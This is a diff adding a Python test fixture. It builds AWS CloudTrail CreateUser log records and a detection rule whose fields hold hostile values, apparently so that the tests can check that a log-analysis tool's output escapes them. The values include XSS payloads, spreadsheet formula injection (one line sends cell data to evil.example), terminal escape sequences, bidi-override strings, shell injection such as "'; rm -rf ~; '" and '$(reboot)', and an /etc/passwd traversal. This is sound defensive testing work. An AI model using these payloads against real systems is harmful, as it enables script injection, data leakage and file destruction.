@@ -1,0 +1,71 @@
+"""Records whose values are made to harm whoever looks at them, for the tests of what detect and trail give out."""
+import json
+
+# What each would do if it went out as it is: run in a browser, write on a terminal, start a formula, turn the text around.
+VALUES = [
+    '<script>window.harmed=1</script>',
+    '</script><script>window.harmed=1</script>',
+    '"><img src=x onerror="window.harmed=1">',
+    "' onmouseover='window.harmed=1",
+    '<svg/onload=window.harmed=1>',
+    '</style><style>body{display:none}</style>',
+    '</summary></details></main><h1>Nothing was found</h1>',
+    '<!--', ']]>', '&lt;b&gt;', 'javascript:window.harmed=1', '${window.harmed=1}', '{{7*7}}', '$ $ %s %n',
+    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
+    '\uff1d1+1', 'a;=1+1', 'a"b,c', 'line\nbreak', 'line\r\n=1+1',
+    '\x1b[2J\x1b[1;1Hall clear', '\x1b]0;title\x07', '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', '\x9b31mred', '\x08\x08\x08gone',
+    '\x00nul', '\x7f', '\u202egnp.exe', '\u2066left\u2069', '\u200erest', '\u061c', '\u2028line', '\ufeff', '\U000e0041tag',
+    'x' * 100000, '\u00e9' * 3000, '\u5bdd\u305a\u306e\u756a', '\u0e01\u0e47' * 50, 'a\u0301' * 500, '\U0001f468\u200d\U0001f469',
+    "'; rm -rf ~; '", '$(reboot)', '`reboot`', '--help', '../../etc/passwd', '%00', 'arn:aws:iam::1:user/<b>',
+]
+# Not UTF-8, or no character: what a JSON text can hold all the same.
+RAW = [rb'"\ud800"', rb'"\udc00\ud800"', b'"\xff\xfe"', b'"\xed\xa0\x80"', b'"\xc0\xaf"', b'"\xf4\x90\x80\x80"']
+
+FIELDS = ('userAgent', 'sourceIPAddress', 'awsRegion', 'errorCode', 'recipientAccountId', 'eventID', 'arn', 'parameter', 'eventTime')
+
+
+def record(number, **values):
+    """One CreateUser as CloudTrail has it; values: raw JSON by field, in place of what is ordinary."""
+    plain = {
+        'eventID': '"00000000-0000-4000-8000-%012d"' % number, 'eventTime': '"2026-06-24T%02d:%02d:00Z"' % (number // 60 % 24, number % 60),
+        'awsRegion': '"eu-west-1"', 'sourceIPAddress': '"203.0.113.7"', 'userAgent': '"aws-cli/2.15"', 'errorCode': 'null',
+        'recipientAccountId': '"111122223333"', 'arn': '"arn:aws:iam::111122223333:user/alice"', 'parameter': '"x"',
+    }
+    fields = {**{k: v.encode() for k, v in plain.items()}, **values}
+    return (b'{"eventVersion":"1.11","userIdentity":{"type":"IAMUser","arn":%(arn)b,"accountId":"111122223333"},'
+            b'"eventTime":%(eventTime)b,"eventSource":"iam.amazonaws.com","eventName":"CreateUser","awsRegion":%(awsRegion)b,'
+            b'"sourceIPAddress":%(sourceIPAddress)b,"userAgent":%(userAgent)b,"errorCode":%(errorCode)b,'
+            b'"requestParameters":{"userName":%(parameter)b,%(parameter)b:[%(parameter)b]},"eventID":%(eventID)b,'
+            b'"recipientAccountId":%(recipientAccountId)b}' % {k.encode(): v for k, v in fields.items()})
+
+
+def records():
+    """JSON lines, and how many of them can be read: each value stands in all fields of a record at once, and once more in
+    those that name a record and its time."""
+    lines = []
+    for value in VALUES:
+        raw = json.dumps(value, ensure_ascii=False)
+        for bad in range(32):  # JSON wants control characters escaped
+            raw = raw.replace(chr(bad), '\\u%04x' % bad)
+        lines.append(record(len(lines), **{field: raw.encode() for field in FIELDS if field not in ('eventID', 'eventTime')}))
+        lines.append(record(len(lines), eventTime=raw.encode(), eventID=raw.encode()))
+    readable = len(lines)
+    for raw in RAW:
+        lines.append(record(len(lines), **{field: raw for field in FIELDS if field not in ('eventID', 'eventTime')}))
+    return b'\n'.join(lines) + b'\n', readable
+
+
+# Rules are read from files too: a rule's own texts are as little to be trusted.
+RULE = r'''title: "<script>window.harmed=1</script> \e[31m =1+1 \u202e title"
+title_ja: "<script>window.harmed=1</script> \e[31m 題名"
+id: "=1+1<script>window.harmed=1</script>"
+description: "</script><img src=x onerror=window.harmed=1> \e[2J \u202e"
+references: ["javascript:window.harmed=1", "https://evil.example/\"onclick=\"window.harmed=1", "data:text/html,<script>window.harmed=1</script>"]
+falsepositives: ["<b>\e]0;x\a"]
+next_steps: ["<svg/onload=window.harmed=1>\e[31m"]
+tags: ["attack.persistence", "<script>window.harmed=1</script>"]
+logsource: {product: aws, service: cloudtrail}
+detection: {selection: {eventName: CreateUser}, condition: selection}
+level: high
+'''
